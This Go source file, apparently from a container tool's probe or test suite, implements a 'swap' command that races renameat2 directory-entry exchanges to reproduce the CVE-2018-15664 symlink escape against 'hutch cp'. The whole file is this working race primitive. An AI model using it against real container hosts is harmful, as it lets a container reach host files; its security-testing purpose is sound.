package main

import (
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"sync/atomic"
	"syscall"

	"golang.org/x/sys/unix"
)

// swap exchanges two entries of a directory with renameat2(RENAME_EXCHANGE), as fast as
// it can, until SIGTERM or SIGINT: the CVE-2018-15664 race against `hutch cp`, which a
// container wins when hutch checks a path (a directory) and then uses it (now a symlink
// to a host directory). A and B may be any two entries: a directory and a symlink, a
// file and a fifo. It prints "swapping" once the first exchange succeeded and, when
// stopped, how many it made.
//
//	probe swap DIR A B
func init() {
	probes["swap"] = func(args []string) int {
		if len(args) != 3 {
			fmt.Fprintln(os.Stderr, "usage: probe swap DIR A B")
			return 2
		}
		dir, err := os.Open(args[0])
		if err != nil {
			fmt.Fprintln(os.Stderr, "swap:", err)
			return 1
		}
		fd := int(dir.Fd())
		a, b := filepath.Base(args[1]), filepath.Base(args[2])
		if err := unix.Renameat2(fd, a, fd, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintf(os.Stderr, "swap: renameat2(%s, %s, RENAME_EXCHANGE): %v\n", a, b, err)
			return 1
		}
		var n atomic.Int64
		n.Add(1)
		fmt.Println("swapping")
		stop := make(chan os.Signal, 1)
		signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
		go func() {
			for {
				if unix.Renameat2(fd, a, fd, b, unix.RENAME_EXCHANGE) == nil {
					n.Add(1)
				}
			}
		}()
		<-stop
		fmt.Printf("swapped %d times\n", n.Load())
		return 0
	}
}
